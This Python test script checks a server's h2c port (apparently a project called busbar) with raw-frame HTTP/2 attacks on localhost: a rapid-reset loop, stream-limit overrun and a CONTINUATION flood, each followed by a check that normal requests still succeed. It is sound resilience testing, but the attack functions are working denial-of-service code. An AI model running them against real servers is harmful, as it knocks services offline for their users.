"""Case 4: HTTP/2 abuse against busbar's h2c port (prior knowledge), with raw frames so
the attacks can break the rules the `h2` package's state machine would enforce.

    python3 h2abuse.py PORT

Attacks: rapid reset (HEADERS then RST_STREAM, repeated), more concurrent streams than
the advertised limit, CONTINUATION flood (a header block that never ends). After each,
a fresh well-behaved h2 connection must still get 200. Prints one `key=value` line per
figure; RSS is sampled by the calling script.
"""
import os
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PORT = int(sys.argv[1])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Conn:
    """A raw h2c connection with a reader thread that tallies what the server sends."""

    def __init__(self):
        self.s = socket.create_connection(("127.0.0.1", PORT), timeout=10)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed = threading.Event()
        self.goaway = None
        self.rst = {}
        self.settings = {}
        self.responses = 0
        self.dec = hpack.Decoder()
        self.statuses = []
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def _recv(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.s.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def _read(self):
        try:
            while True:
                head = self._recv(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                stream = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
                payload = self._recv(length)
                if kind == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload), 6):
                        k, v = struct.unpack(">HI", payload[i:i + 6])
                        self.settings[k] = v
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    last, code = struct.unpack(">II", payload[:8])
                    self.goaway = code
                elif kind == RST:
                    code = struct.unpack(">I", payload[:4])[0]
                    self.rst[code] = self.rst.get(code, 0) + 1
                elif kind == HEADERS:
                    try:
                        hs = dict(self.dec.decode(payload))
                        if ":status" in hs:
                            self.statuses.append(hs[":status"])
                    except Exception:
                        pass
                    self.responses += 1
        except Exception:
            pass
        finally:
            self.closed.set()

    def send(self, data):
        try:
            self.s.sendall(data)
            return True
        except OSError:
            self.closed.set()
            return False

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


enc = hpack.Encoder()


def request_block(method="GET", path="/"):
    return hpack.Encoder().encode([(":method", method), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1")])


def normal_request():
    c = Conn()
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block()))
    deadline = time.time() + 5
    while time.time() < deadline and not c.statuses and not c.closed.is_set():
        time.sleep(0.01)
    c.close()
    return c.statuses[0] if c.statuses else "none"


def rapid_reset(n=20000):
    c = Conn()
    block = request_block()
    t0 = time.time()
    sent = 0
    for i in range(n):
        sid = 2 * i + 1
        if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, block) + frame(RST, 0, sid, struct.pack(">I", 8))):
            break
        sent += 1
        if c.closed.is_set():
            break
    c.closed.wait(5)
    out = {
        "rapid_reset_pairs_sent": sent,
        "rapid_reset_goaway_code": c.goaway,
        "rapid_reset_closed": c.closed.is_set(),
        "rapid_reset_responses": c.responses,
        "rapid_reset_seconds": round(time.time() - t0, 2),
    }
    c.close()
    return out


def too_many_streams(n=300):
    c = Conn()
    time.sleep(0.2)
    block = request_block("POST", "/")
    for i in range(n):
        # No END_STREAM: the body never comes, so every stream stays open.
        if not c.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block)):
            break
    time.sleep(1.5)
    out = {
        "streams_opened": n,
        "streams_advertised_limit": c.settings.get(3),
        "streams_refused": c.rst.get(7, 0),
        "streams_rst_other": sum(v for k, v in c.rst.items() if k != 7),
        "streams_goaway_code": c.goaway,
        "streams_closed": c.closed.is_set(),
    }
    c.close()
    return out


def continuation_flood(total=64 * 1024 * 1024, chunk=16384):
    c = Conn()
    time.sleep(0.2)
    e = hpack.Encoder()
    block = e.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "127.0.0.1")])
    c.send(frame(HEADERS, 0, 1, block))
    sent = len(block)
    junk = b""
    i = 0
    while len(junk) < chunk:
        # Literal without indexing, new name: the server must keep it or count it.
        junk += hpack.Encoder().encode([("x-flood-%06d" % i, "v" * 100)])
        i += 1
    junk = junk[:chunk]
    t0 = time.time()
    while sent < total and not c.closed.is_set():
        if not c.send(frame(CONT, 0, 1, junk)):
            break
        sent += len(junk)
    c.closed.wait(5)
    out = {
        "continuation_bytes_sent": sent,
        "continuation_goaway_code": c.goaway,
        "continuation_closed": c.closed.is_set(),
        "continuation_seconds": round(time.time() - t0, 2),
    }
    c.close()
    return out


def main():
    results = {"normal_before": normal_request()}
    results.update(rapid_reset())
    results["normal_after_rapid_reset"] = normal_request()
    results.update(too_many_streams())
    results["normal_after_streams"] = normal_request()
    results.update(continuation_flood())
    results["normal_after_continuation"] = normal_request()
    for k, v in results.items():
        print(f"{k}={v}")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
